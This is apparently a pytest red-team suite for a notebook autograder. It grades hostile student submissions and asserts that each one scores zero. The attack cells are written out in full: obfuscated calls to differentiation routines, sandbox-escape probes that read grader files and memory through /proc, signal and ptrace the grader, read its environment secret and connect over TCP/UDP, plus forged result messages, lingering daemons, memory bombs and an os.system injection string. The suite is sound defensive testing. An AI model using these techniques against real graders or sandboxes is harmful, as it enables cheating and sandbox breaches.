"""Red-team tests: submissions that try to raise their own score (or break the batch) must fail.

One course is built in a temp folder from the real 01_scalar_rules notebook and released once; every
attack is a student notebook, and all of them are graded in ONE `grade --jobs 2` run, except the sandbox
oracles (SANDBOX_ORACLES), graded in a copy of the course without hand derivations so that only the
sandbox, never the trap on differentiation routines, can be what zeroes them (a second, small run on the first course
for the batch breakers and a lingering daemon). Each test then asserts the secure outcome: the attacked exercise scores 0
(or the batch completes and the control student is graded). Attacks that currently succeed are marked
`xfail(strict=True)` with the reason; the hostile-data attacks on the judge run in a child process
with a time limit so a hang is a failure, not a stuck suite.

Many sandbox attacks use an oracle: the cell tries the forbidden operation (read the source, signal the
grader, ...) and only when it works does it write the correct answer; "scores 0" therefore means
"the operation was refused".
"""
from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import textwrap
import time
import uuid
from pathlib import Path

import pytest
from coursekit import graded_rows

from autograder.notebooks import read_notebook, solution_sources, with_answers, write_notebook

# its module fixture grades a class once: every test of this file on one xdist worker
pytestmark = pytest.mark.xdist_group("redteam")

REPO = Path(__file__).resolve().parents[2]
A = "01_scalar_rules"
SOURCE = REPO / "course" / "source" / A / f"{A}.ipynb"
PY = sys.executable
GRADE_TIMEOUT = 600

SOL_POW = "dp_dx = 20 * x**4 - 6 * x"


def _solutions() -> dict:
    """{answer cell id: the body of the source solution} (markers removed)."""
    out = {}
    for gid, src in solution_sources(read_notebook(SOURCE)).items():
        lines = [ln for ln in src.splitlines() if "### BEGIN SOLUTION" not in ln and "### END SOLUTION" not in ln]
        out[gid] = "\n".join(lines) + "\n"
    return out


# ---------------------------------------------------------------------------------------------
# attack cells (placeholders @@NAME@@ are filled in when the course is built)

# hand-derivation evasions (of a name scan, once): each is its own student; the run-time trap must see the
# routine run (autograder.trap)
EVASIONS = {
    "ev_sympify_string": {"01_power_answer": 'dp_dx = sp.sympify("diff(4*x**5 - 3*x**2 + 7, x)")\n'},
    "ev_module_file": {"01_power_answer": textwrap.dedent("""\
        import sys
        with open("rt_helper.py", "w") as fh:
            fh.write("from sympy import diff as D\\n")
        sys.path.insert(0, ".")
        import rt_helper
        dp_dx = rt_helper.D(4 * x**5 - 3 * x**2 + 7, x)
        """)},
    "ev_inspect_members": {"01_power_answer": textwrap.dedent("""\
        import inspect
        _d = dict(inspect.getmembers(sp))["di" + "ff"]
        dp_dx = _d(4 * x**5 - 3 * x**2 + 7, x)
        """)},
    "ev_star_globals": {"01_power_answer": textwrap.dedent("""\
        from sympy import *
        _d = (lambda: 0).__globals__["di" + "ff"]
        dp_dx = _d(4 * x**5 - 3 * x**2 + 7, x)
        """)},
    "ev_resolve_name": {"01_power_answer": textwrap.dedent("""\
        import pkgutil
        _d = pkgutil.resolve_name("sympy:di" + "ff")
        dp_dx = _d(4 * x**5 - 3 * x**2 + 7, x)
        """)},
    "ev_limit": {"01_power_answer": textwrap.dedent("""\
        _h = sp.Symbol("h")
        _p = 4 * x**5 - 3 * x**2 + 7
        dp_dx = sp.expand(sp.limit((_p.subs(x, x + _h) - _p) / _h, _h, 0))
        """)},
    # Python folds identifiers to NFKC: ｄiff *is* diff for ast; must be caught
    "ev_fullwidth": {"01_power_answer": "dp_dx = sp.\uff44iff(4 * x**5 - 3 * x**2 + 7, x)\n"},
    "ev_import_alias": {"01_power_answer": "from sympy import diff as d_\ndp_dx = d_(4 * x**5 - 3 * x**2 + 7, x)\n"},
    # numerical answers to the hand function exercise dh_dx (h(x) = sin(3x^2 + 1)) on a retyped copy
    "ev_complex_step": {"01_chain_fn_answer": textwrap.dedent("""\
        def dh_dx(x):
            i = (-1) ** 0.5                      # a complex unit without a 1j literal
            z = np.sin(3 * (x + 1e-30 * i) ** 2 + 1)
            return ((z - z.conjugate()) / (2e-30 * i)).real
        """)},
    "ev_fd_8th_order": {"01_chain_fn_answer": textwrap.dedent("""\
        def dh_dx(x):
            def g(v):
                return np.sin(3 * v**2 + 1)
            s = 3e-3
            c = [4 / 5, -1 / 5, 4 / 105, -1 / 280]
            return sum(ck * (g(x + (k + 1) * s) - g(x - (k + 1) * s)) for k, ck in enumerate(c)) / s
        """)},
    "ev_mpmath_fd": {"01_chain_fn_answer": textwrap.dedent("""\
        import mpmath
        mpmath.mp.dps = 40
        def dh_dx(x):
            s = mpmath.mpf("1e-15")
            def g(v):
                return mpmath.sin(3 * v**2 + 1)
            return np.vectorize(lambda v: float((g(mpmath.mpf(v) + s) - g(mpmath.mpf(v) - s)) / (2 * s)))(x)
        """)},
    # a 5-point stencil is exact for the cubic of the slope exercise (no step-size error at all)
    "ev_fd_stencil_value": {"01_slope_answer": textwrap.dedent("""\
        def _g(v):
            return v**3 - 2 * v
        slope_at_2 = (-_g(4.0) + 8 * _g(3.0) - 8 * _g(1.0) + _g(0.0)) / 12
        """)},
    # the target tripwire: a saved reference to h must be disabled while dh_dx is evaluated
    "ev_saved_target": {"01_chain_fn_answer": textwrap.dedent("""\
        _g = h
        def dh_dx(x):
            s = 3e-3
            c = [4 / 5, -1 / 5, 4 / 105, -1 / 280]
            return sum(ck * (_g(x + (k + 1) * s) - _g(x - (k + 1) * s)) for k, ck in enumerate(c)) / s
        """)},
}

# sandbox escapes, all in one student; each breach, when it works, answers one exercise.
ESCAPE_PROBE = textwrap.dedent("""\
    import json, os, re, resource, signal, socket
    _breach = {}

    def _grader_pids():
        out = []
        try:
            _listing = [p for p in os.listdir("/proc") if p.isdigit()]
        except OSError:  # /proc not listable: guess the pids below ours (the grader started first)
            _listing = [str(p) for p in range(max(1, os.getpid() - 20000), os.getpid() + 50)]
        for p in _listing:
            if int(p) != os.getpid():
                try:
                    cmd = open(f"/proc/{p}/cmdline", "rb").read()
                except OSError:
                    continue
                if b"autograder" in cmd:
                    out.append(int(p))
        return out

    _pids = _grader_pids() + [os.getppid()]

    def _solution_in(path, name):
        try:
            with open(path) as fh:
                nb = json.load(fh)
        except Exception:
            return None
        for c in nb.get("cells", []):
            src = "".join(c.get("source", ""))
            m = re.search("^" + name + r" = (.*)$", src, re.M)
            if m and "NotImplementedError" not in src:
                return m.group(1)
        return None

    # 1. the source notebook (solutions, hidden tests): absolute path, via the grader's cwd, its fds
    _paths = ["@@SOURCE_NB@@"] + [f"/proc/{p}/cwd/source/@@A@@/@@A@@.ipynb" for p in _pids]
    for p in _pids:
        try:
            _paths += [f"/proc/{p}/fd/{fd}" for fd in os.listdir(f"/proc/{p}/fd")]
        except OSError:
            pass
    for _p in _paths:
        _s = _solution_in(_p, "dp_dx")
        if _s:
            _breach["source"] = _s
            break
    # 2. another student's submission
    _breach["other"] = _solution_in("@@OTHER_NB@@", "dq_dx")
    # 3. write into the gradebook or the course folder
    for _target in ("@@DB@@", "@@COURSE@@/rt_planted.txt"):
        try:
            with open(_target, "ab") as fh:
                fh.write(b"")
            _breach["write"] = True
        except OSError:
            pass
    # 4. signal the grader / the sandbox's parent; ptrace-read their memory; read their environment
    for p in _pids:
        for _sig in (0, signal.SIGCONT):
            try:
                os.kill(p, _sig)
                _breach["signal"] = True
            except OSError:
                pass
        try:
            with open(f"/proc/{p}/mem", "rb") as fh:
                fh.read(1)
            _breach["ptrace"] = True
        except OSError:
            pass
        try:
            with open(f"/proc/{p}/environ", "rb") as fh:
                if b"RT_SECRET_TOKEN=@@SECRET@@" in fh.read():
                    _breach["environ"] = True
        except OSError:
            pass
    # 5. TCP to the grader's machine
    try:
        _c = socket.create_connection(("127.0.0.1", @@TCP_PORT@@), timeout=2)
        _c.sendall(b"escaped")
        _c.close()
        _breach["tcp"] = True
    except OSError:
        pass
    # 6. UDP to the grader's machine (not tied to a score; checked by the test's listener)
    try:
        _u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        _u.sendto(b"escaped", ("127.0.0.1", @@UDP_PORT@@))
        _u.close()
    except OSError:
        pass
    # 7. the raw disk under the file system (root can open /dev/vda & co.)
    for _dev in os.listdir("/sys/block"):
        try:
            with open(f"/dev/{_dev}", "rb") as fh:
                if fh.read(512):
                    _breach["raw_disk"] = True
        except OSError:
            pass
    # 8. lift the memory limit (works with CAP_SYS_RESOURCE)
    try:
        resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        _breach["rlimit"] = True
    except (ValueError, OSError):
        pass
    if "source" in _breach:
        dp_dx = _breach["source"]
    """)

ESCAPE = {
    "01_power_answer": ESCAPE_PROBE,
    "01_product_answer": "if _breach.get('other'):\n    dq_dx = _breach['other']\n",
    "01_exp_chain_answer": "if _breach.get('write'):\n    dr_dx = -2 * x * sp.exp(-x**2)\n",
    "01_which_variable_answer": "if _breach.get('signal'):\n    df_dt = 2 * x * t\n",
    "01_compose_answer": "if _breach.get('tcp'):\n    compositions = ((2 - 3) ** 3, 2**3 - 3)\n",
}

# the same probes, other breaches mapped onto the exercises
ESCAPE2 = {
    "01_power_answer": ESCAPE_PROBE + "if _breach.get('environ'):\n    " + SOL_POW + "\n",
    "01_product_answer": "if _breach.get('ptrace'):\n    dq_dx = 2 * x * sp.sin(x) + x**2 * sp.cos(x)\n",
    "01_slope_answer": "if _breach.get('raw_disk'):\n    slope_at_2 = 10\n",
    "01_chain_fn_answer": "if _breach.get('rlimit'):\n    def dh_dx(x):\n        return np.cos(3 * x**2 + 1) * 6 * x\n",
}

# results channel: unsigned forged lines on every pipe (01_power), and a forged line signed with the
# key found in the sandbox's own memory (01_slope), sent after the real extraction of 01_slope.
FORGER = {
    "01_power_answer": textwrap.dedent("""\
        import json, os
        for _fd in range(3, 64):
            try:
                if not os.path.islink(f"/proc/self/fd/{_fd}") or "pipe" not in os.readlink(f"/proc/self/fd/{_fd}"):
                    continue
                for _seq in range(0, 60):
                    _body = json.dumps({"seq": _seq, "type": "answer", "grade_id": "01_power", "variant": None,
                                        "answer": {"status": "ok", "text": "20*x**4 - 6*x"}},
                                       sort_keys=True, separators=(",", ":"))
                    os.write(_fd, (json.dumps({"body": _body, "mac": "0" * 64}) + "\\n").encode())
            except OSError:
                pass
        """),
    "01_compose_answer": textwrap.dedent("""\
        import gc
        from autograder.messages import Answer
        for _o in gc.get_objects():
            if type(_o).__name__ == "Channel" and hasattr(_o, "send"):
                _o.send(Answer("01_slope", None, {"status": "ok", "value": {"t": "int", "v": "10"}}))
        """),
}

# look for the source's solutions anywhere in the sandbox's own memory (e.g. left in the zygote's heap by
# the reference run it forked earlier): the pattern is built so that it does not match itself
MEMSCAN = {
    "01_power_answer": textwrap.dedent("""\
        import re
        _leak = None
        _pat = rb"SOLUTION(?:\\\\n|\\n)dp_dx = ([^\\n\\\\\\"]+)"
        with open("/proc/self/maps") as _fh:
            _regions = [ln.split() for ln in _fh]
        with open("/proc/self/mem", "rb", 0) as _mem:
            for _r in _regions:
                _lo, _hi = (int(v, 16) for v in _r[0].split("-"))
                if not _r[1].startswith("r") or _hi - _lo > 256 * 2**20:
                    continue
                try:
                    _mem.seek(_lo)
                    _m = re.search(_pat, _mem.read(_hi - _lo))
                except (OSError, ValueError, OverflowError):
                    continue
                if _m:
                    _leak = _m.group(1).decode()
                    break
        if _leak:
            dp_dx = _leak
        """),
}

# a process that outlives the notebook: double fork, new session, exec a recognisable sleep
DAEMON = {
    "01_power_answer": textwrap.dedent("""\
        import os
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv("/bin/sleep", ["sleep", "@@MARKER@@"])
            os._exit(0)
        os.wait()
        """),
}

# the same, but the middle processes linger so the sleeper is not yet an orphan when the sandbox ends;
# graded as the last sandbox of a run (nothing ends after it)
DAEMON_LINGER = {
    "01_power_answer": textwrap.dedent("""\
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                if os.fork() == 0:
                    os.execv("/bin/sleep", ["sleep", "@@MARKER@@"])
                time.sleep(20)
                os._exit(0)
            time.sleep(20)
            os._exit(0)
        """),
}

# memory bomb in the answer function (3.2 GB > the 2 GiB limit): an error, not a dead grader
MEMORY = {"01_chain_fn_answer": "def dh_dx(x):\n    big = np.ones(400_000_000)\n    return big[:6] * x\n"}

# breaks the batch: an authenticated message whose fields are not what the grader expects
BATCH_BREAKER = {
    "01_power_answer": textwrap.dedent("""\
        import gc
        from autograder.messages import Answer, CellError
        for _o in gc.get_objects():
            if type(_o).__name__ == "Channel" and hasattr(_o, "send"):
                _o.send(Answer(["01_power"], None, {"status": "ok"}))
                _o.send(CellError({"a": 1}, "x"))
                _o.send(Answer("01_slope", None, {"status": "ok", "value": {"t": "float", "v": 10**400}}))
                _o.send(Answer("01_chain_fn", None,
                               {"status": "ok", "probes": [{"ok": {"t": "float", "v": 10**400}}] * 5}))
        """),
}


# ---------------------------------------------------------------------------------------------
# the graded course


def _cli(course: Path, *args, timeout=GRADE_TIMEOUT, env=None) -> subprocess.CompletedProcess:
    return subprocess.run([PY, "-m", "autograder", "--course", str(course), *args], cwd=course, env=env,
                          capture_output=True, text=True, timeout=timeout)


def _fill(code: str, values: dict) -> str:
    for k, v in values.items():
        code = code.replace(f"@@{k}@@", str(v))
    return code


def _scores(course: Path) -> tuple[dict, dict]:
    return graded_rows(course, A)


def _daemons(marker: str) -> list[int]:
    pids = []
    for p in os.listdir("/proc"):
        if not p.isdigit():
            continue
        try:
            with open(f"/proc/{p}/cmdline", "rb") as fh:
                cmd = fh.read().split(b"\0")
        except OSError:
            continue
        if marker.encode() in cmd and cmd[0].endswith(b"sleep"):
            pids.append(int(p))
    return pids


def _make_course(root: Path, hand: bool = True) -> Path:
    """The real 01 notebook in a fresh course under `root`, released; `hand=False` turns every hand
    derivation into an ordinary exercise (no trap on differentiation routines)."""
    course = root / "course"
    (course / "source" / A).mkdir(parents=True)
    shutil.copy2(REPO / "course" / "nbgrader_config.py", course / "nbgrader_config.py")
    text = SOURCE.read_text()
    if not hand:
        assert '\\"hand\\": True' in text
        text = text.replace('\\"hand\\": True', '\\"hand\\": False')
    (course / "source" / A / f"{A}.ipynb").write_text(text)
    r = _cli(course, "release", A)
    assert r.returncode == 0, r.stderr
    return course


# students whose attack is an oracle on the sandbox: graded in a copy of the course without hand
# derivations, so that the trap on differentiation routines cannot be what zeroes them
SANDBOX_ORACLES = ("escape", "escape2", "memscan", "forger")


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """Release the course, write every attack submission, grade them all in one run (the sandbox
    oracles, with a control, in a second run on the course without hand derivations)."""
    course = _make_course(tmp_path_factory.mktemp("redteam"))
    nohand = _make_course(tmp_path_factory.mktemp("redteam_nohand"), hand=False)
    released = read_notebook(course / "release" / A / f"{A}.ipynb")
    sols = solution_sources(read_notebook(SOURCE))

    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(5)
    tcp.settimeout(0.2)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.settimeout(0.2)
    secret = uuid.uuid4().hex
    marker = f"{4000 + uuid.uuid4().int % 1000}.{uuid.uuid4().int % 10**6}"
    values = {"A": A, "SOURCE_NB": nohand / "source" / A / f"{A}.ipynb",     # the oracles' own course
              "OTHER_NB": nohand / "submitted" / "control_nohand" / A / f"{A}.ipynb",
              "DB": nohand / "gradebook.db", "COURSE": nohand, "TCP_PORT": tcp.getsockname()[1],
              "UDP_PORT": udp.getsockname()[1], "MARKER": marker, "SECRET": secret}
    students = {"control": sols, "blank": {}, "escape": ESCAPE, "escape2": ESCAPE2, "forger": FORGER,
                "daemon": DAEMON, "memory": MEMORY, "memscan": MEMSCAN, **EVASIONS}
    for student, answers in students.items():
        nb = with_answers(released, {k: _fill(v, values) for k, v in answers.items()})
        target = nohand if student in SANDBOX_ORACLES else course
        write_notebook(nb, target / "submitted" / student / A / f"{A}.ipynb")
    write_notebook(with_answers(released, sols), nohand / "submitted" / "control_nohand" / A / f"{A}.ipynb")
    # a submission folder holding symlinks: the notebook -> the source notebook, timestamp.txt -> a private file
    linked = course / "submitted" / "symlinked" / A
    linked.mkdir(parents=True)
    (linked / f"{A}.ipynb").symlink_to(course / "source" / A / f"{A}.ipynb")
    private = course.parent / "private.txt"
    private.write_text(f"PRIVATE-{secret}\n")
    (linked / "timestamp.txt").symlink_to(private)
    students["symlinked"] = {}
    env = dict(os.environ, RT_SECRET_TOKEN=secret)
    t0 = time.time()
    main = _cli(course, "grade", A, "--jobs", "2", "--force",
                *sum((["--student", s] for s in students if s not in SANDBOX_ORACLES), []), env=env)
    took = time.time() - t0
    oracles = _cli(nohand, "grade", A, "--jobs", "2", "--force", env=env)
    tcp_hits, udp_hits = [], []
    try:
        while True:
            conn, _ = tcp.accept()
            tcp_hits.append(conn.recv(100))
            conn.close()
    except OSError:
        pass
    try:
        while True:
            udp_hits.append(udp.recv(100))
    except OSError:
        pass
    tcp.close()
    udp.close()
    daemons = _daemons(marker)
    for pid in daemons:  # ours: started by the daemon student of this test
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    subs, rows = _scores(course)
    subs_nohand, rows_nohand = _scores(nohand)
    subs.update(subs_nohand)
    rows.update(rows_nohand)
    return {"course": course, "nohand": nohand, "main": main, "oracles": oracles, "took": took, "subs": subs,
            "rows": rows, "tcp": tcp_hits,
            "secret": secret,
            "udp": udp_hits, "daemons": daemons, "released": released, "sols": sols}


def _score(graded, student, gid):
    sub = graded["subs"].get(student)
    run = graded["oracles"] if student in SANDBOX_ORACLES else graded["main"]
    assert sub is not None, f"{student} was not graded: {run.stderr[-2000:]}"
    assert sub.status == "graded", f"{student}: {sub.status} ({sub.reason})"
    return graded["rows"][student][gid]


def test_grade_run_completes_and_controls_score_as_expected(graded):
    """The oracle pattern is only meaningful if the solution scores full and the blank copy 0."""
    assert graded["main"].returncode == 0, graded["main"].stderr[-2000:]
    assert graded["oracles"].returncode == 0, graded["oracles"].stderr[-2000:]
    for control in (graded["rows"]["control"], graded["rows"]["control_nohand"]):
        auto = [r for r in control.values() if r.kind == "auto"]
        assert auto and all(r.score == r.max_score for r in auto), [(r.grade_id, r.score, r.message) for r in auto]
    oracle_rows = [r for s in SANDBOX_ORACLES for r in graded["rows"][s].values()]
    assert oracle_rows and not any(r.mistake == "forbidden" for r in oracle_rows)  # no hand scan there
    assert all(r.score == 0 for r in graded["rows"]["blank"].values() if r.kind == "auto")


# -- the trap on differentiation routines in hand derivations -----------------------------------

_RETYPED = "a re-typed copy of h is not the function the exercise differentiates: "
_EVASION_SUCCEEDS = {  # "" = refused now (a routine ran: autograder.trap)
    "ev_sympify_string": "",
    "ev_module_file": "",
    "ev_inspect_members": "",
    "ev_star_globals": "",
    "ev_resolve_name": "",
    "ev_limit": "",
    "ev_complex_step": _RETYPED + "the complex step on it is plain arithmetic, exact to 1e-16, far inside "
                                  "rtol 1e-11",
    "ev_fd_8th_order": _RETYPED + "an 8th-order central stencil (h=3e-3) on it is plain arithmetic, accurate "
                                  "to ~2e-13, inside rtol 1e-11",
    "ev_mpmath_fd": _RETYPED + "a central difference in 40-digit mpmath arithmetic on it is exact to ~1e-30",
    "ev_fd_stencil_value": "the 5-point central stencil with h=1 is exact for a cubic: slope_at_2 == 10.0 "
                           "exactly, so no tolerance can tell it from a hand derivation",
    "ev_saved_target": "",
    "ev_fullwidth": "",
    "ev_import_alias": "",
}


def _evasion_param(student):
    cell = next(iter(EVASIONS[student]))
    target = cell[: -len("_answer")]
    reason = _EVASION_SUCCEEDS[student]
    marks = [pytest.mark.xfail(strict=True, reason=reason)] if reason else []
    return pytest.param(student, target, id=student, marks=marks)


@pytest.mark.parametrize("student,gid", [_evasion_param(s) for s in EVASIONS])
def test_hand_exercise_evasion_scores_zero(graded, student, gid):
    row = _score(graded, student, gid)
    assert row.score == 0, f"{student} got {row.score}/{row.max_score} on {gid}"


# -- escapes from the sandbox -------------------------------------------------------------------


def test_solutions_are_not_in_sandbox_memory(graded):
    assert _score(graded, "memscan", "01_power").score == 0


def test_reading_source_notebook_via_paths_proc_and_fds_fails(graded):
    assert _score(graded, "escape", "01_power").score == 0


def test_reading_another_students_submission_fails(graded):
    assert _score(graded, "escape", "01_product").score == 0


def test_writing_gradebook_or_course_folder_fails(graded):
    assert _score(graded, "escape", "01_exp_chain").score == 0
    assert not (graded["nohand"] / "rt_planted.txt").exists()


def test_signalling_the_grader_or_zygote_fails(graded):
    assert _score(graded, "escape", "01_which_variable").score == 0


def test_ptrace_reading_grader_memory_fails(graded):
    assert _score(graded, "escape2", "01_product").score == 0


def test_grader_environment_is_unreadable(graded):
    assert _score(graded, "escape2", "01_power").score == 0


def test_tcp_to_localhost_fails(graded):
    assert _score(graded, "escape", "01_compose").score == 0
    assert graded["tcp"] == []


def test_udp_from_sandbox_is_blocked(graded):
    assert graded["udp"] == []


def test_raw_block_device_is_unreadable(graded):
    """Root may open /dev/vda outside the sandbox; inside, Landlock refuses it (the raw disk holds
    the course folder, the gradebook and every submission)."""
    assert _score(graded, "escape2", "01_slope").score == 0


def test_memory_limit_cannot_be_lifted(graded):
    assert _score(graded, "escape2", "01_chain_fn").score == 0


def test_no_process_outlives_the_notebook(graded):
    """A double-forked child in a new session escapes killpg of the sandbox's group."""
    assert graded["daemons"] == []


def test_memory_bomb_in_answer_is_an_error_not_a_crash(graded):
    row = _score(graded, "memory", "01_chain_fn")
    assert row.score == 0
    assert row.mistake in ("error", "missing")


def test_symlinked_notebook_to_source_scores_zero(graded):
    sub = graded["subs"].get("symlinked")
    assert sub is not None
    if sub.status == "graded":
        auto = [r for r in graded["rows"]["symlinked"].values() if r.kind == "auto"]
        assert sum(r.score for r in auto) == 0


def test_symlinked_timestamp_does_not_leak_a_file(graded):
    sub = graded["subs"].get("symlinked")
    assert sub is not None
    assert graded["secret"] not in (sub.timestamp or "")


# -- the results channel ------------------------------------------------------------------------


def test_unsigned_forged_result_lines_are_ignored(graded):
    row = _score(graded, "forger", "01_power")
    assert row.score == 0
    assert row.detail.get("tampered_lines", 0) > 0


def test_forged_signed_answer_is_not_accepted(graded):
    assert _score(graded, "forger", "01_slope").score == 0


@pytest.fixture(scope="module")
def second_run(graded):
    """A second grade run, one sandbox at a time: the batch breaker, a fresh control submission, and last
    the lingering daemon (the last sandbox of a run: no later sandbox end sweeps its orphans)."""
    course = graded["course"]
    marker = f"{5000 + uuid.uuid4().int % 1000}.{uuid.uuid4().int % 10**6}"
    students = (("a_breaker", BATCH_BREAKER), ("b_control", graded["sols"]), ("c_linger", DAEMON_LINGER))
    for student, answers in students:
        nb = with_answers(graded["released"], {k: _fill(v, {"MARKER": marker}) for k, v in answers.items()})
        write_notebook(nb, course / "submitted" / student / A / f"{A}.ipynb")
    r = _cli(course, "grade", A, "--jobs", "1", "--force", *sum((["--student", s] for s, _ in students), []))
    time.sleep(1.0)
    daemons = _daemons(marker)
    for pid in daemons + _daemons(marker):  # ours: started by c_linger
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    subs, rows = _scores(course)
    return r, subs, rows, daemons


def test_forged_unhashable_fields_do_not_break_the_batch(second_run):
    """Signed messages with a list as grade_id, a dict as cell number, a 400-digit JSON number: the run
    goes on and the next submission is graded normally."""
    r, subs, rows, _ = second_run
    assert r.returncode == 0, r.stderr[-1500:]
    assert subs["b_control"].status == "graded"
    assert subs["b_control"].score == sum(v.max_score for v in rows["b_control"].values() if v.kind == "auto")
    assert all(v.score == 0 for v in rows.get("a_breaker", {}).values() if v.kind == "auto")


def test_no_process_outlives_the_grade_run(second_run):
    assert second_run[3] == []


# -- hostile data reaching the judge (grader process) ------------------------------------------

JUDGE_SCRIPT = textwrap.dedent("""\
    import json, sys, time
    from autograder.judge import judge
    from autograder.spec import Exercise
    for name, (kind, spec, ref, answer) in json.loads(sys.stdin.read()):
        ex = Exercise("g", "nb", 1.0, kind, "ans", "g_answer", spec, (), bool(spec.get("hand")))
        t = time.time()
        try:
            v = judge(ex, ref, answer)
            out = {"credit": v.credit, "mistake": v.mistake}
        except BaseException as exc:
            out = {"crash": f"{type(exc).__name__}: {exc}"[:200]}
        out["seconds"] = time.time() - t
        print(json.dumps([name, out]), flush=True)
    """)

POWER_SPEC = {"kind": "expression", "answer": "ans", "symbols": ["x"], "hand": True}
POWER_REF = {"expected": {"status": "ok", "text": "20*x**4 - 6*x"}, "wrong": []}
CHAIN_SPEC = {"kind": "chain_steps", "answer": "ans", "function": "exp(sin(x))", "variable": "x"}
FUNC_SPEC = {"kind": "function", "answer": "ans", "args": [{"shape": [], "low": 0, "high": 1}], "hand": True}
FUNC_REF = {"expected": {"status": "ok", "probes": [{"ok": {"t": "float", "v": 1.0}}]}, "wrong": []}
VALUE_REF = {"expected": {"status": "ok", "value": {"t": "int", "v": "10"}}, "wrong": []}


def _judge_all(cases: dict, timeout: float) -> dict:
    """{name: verdict dict} from judge() run in a child on every case; "hang" for those not reached."""
    payload = json.dumps(list(cases.items()))
    try:
        r = subprocess.run([PY, "-c", JUDGE_SCRIPT], input=payload, capture_output=True, text=True,
                           timeout=timeout)
        stdout = r.stdout
    except subprocess.TimeoutExpired as exc:
        stdout = exc.stdout.decode() if isinstance(exc.stdout, bytes) else (exc.stdout or "")
    out = dict.fromkeys(cases, "hang")
    for line in stdout.splitlines():
        try:
            name, verdict = json.loads(line)
        except ValueError:
            continue
        out[name] = verdict
    return out


_HOSTILE_TEXTS = {
    "tower": "9**9**9**9",
    "nested": "(" * 5000 + "x" + ")" * 5000,
    "long": "x+" * 9_999 + "x",
    "huge_string": "x" * 10_000_000,
    "dunder_import": "__import__('os').system('touch /tmp/rt_pwned_' + 'x')",
    "attribute": "x.__class__.__mro__[1].__subclasses__()",
    "lambda": "(lambda: 20*x**4 - 6*x)()",
    "floor_pi_huge": "floor(" + "*".join(["10**1000"] * 900) + "*pi)",
    "power_tower_symbolic": "x**x**x**x**x**x**x**x**x**x**x**x",
}
_HOSTILE_FUNCTION_DATA = {
    "array_shape_1e9": {"status": "ok", "probes": [{"ok": {"t": "array", "dtype": "float", "shape": [10**9],
                                                            "data": []}}]},
    "int_1e6_digits": {"status": "ok", "probes": [{"ok": {"t": "int", "v": "9" * 10**6}}]},
    "probes_not_list": {"status": "ok", "probes": "nope"},
    "probe_not_dict": {"status": "ok", "probes": [{"ok": {"t": "list", "v": []}}, 5]},
    "nan": {"status": "ok", "probes": [{"ok": {"t": "float", "v": "nan"}}]},
    "answer_not_dict": ["not", "a", "dict"],
    "deep_list": {"status": "ok", "probes": [{"ok": json.loads('{"t": "list", "v": [' * 200 + ']}' * 200)}]},
}
_CASES = {
    **{f"expr_{k}": ["expression", POWER_SPEC, POWER_REF, {"status": "ok", "text": v}]
       for k, v in _HOSTILE_TEXTS.items()},
    **{f"func_{k}": ["function", FUNC_SPEC, FUNC_REF, v] for k, v in _HOSTILE_FUNCTION_DATA.items()},
    "value_float_400_digits": ["value", {"kind": "value", "answer": "ans"}, VALUE_REF,
                               {"status": "ok", "value": {"t": "float", "v": 10**400}}],
    "func_float_400_digits": ["function", FUNC_SPEC, FUNC_REF,
                              {"status": "ok", "probes": [{"ok": {"t": "array", "dtype": "float", "shape": [1],
                                                                  "data": [10**400]}}]}],
}


@pytest.fixture(scope="module")
def judged():
    return _judge_all(_CASES, timeout=120.0)


@pytest.mark.parametrize("name", list(_CASES))
def test_hostile_answer_data_scores_zero_quickly(judged, name):
    """Whatever comes back from the sandbox (forged or not), judge() gives credit 0 within seconds and
    never raises."""
    out = judged[name]
    assert out != "hang", "judge() did not finish"
    assert "crash" not in out, out["crash"]
    assert out["credit"] == 0
    assert out["seconds"] < 60  # a hang guard, not a speed goal (the machine may be busy)
    assert not Path("/tmp/rt_pwned_x").exists()


def test_chain_steps_exponential_intermediates_are_cut_off():
    """40 intermediates that each use the previous one twice: a 2**40-node tree if composed naively."""
    from autograder.wire import encode

    inter = {"u1": "sin(x) + x"}
    for k in range(2, 41):
        inter[f"u{k}"] = f"u{k - 1} * (u{k - 1} + 1)"
    answer = {"status": "ok", "value": encode({"intermediates": inter, "local": {}, "product": "0", "result": "0"})}
    out = _judge_all({"chain": ["chain_steps", CHAIN_SPEC, {"expected": None, "wrong": []}, answer]},
                     timeout=90.0)["chain"]
    assert out != "hang", "judge() did not finish"
    assert "crash" not in out, out["crash"]
    assert out["credit"] < 1
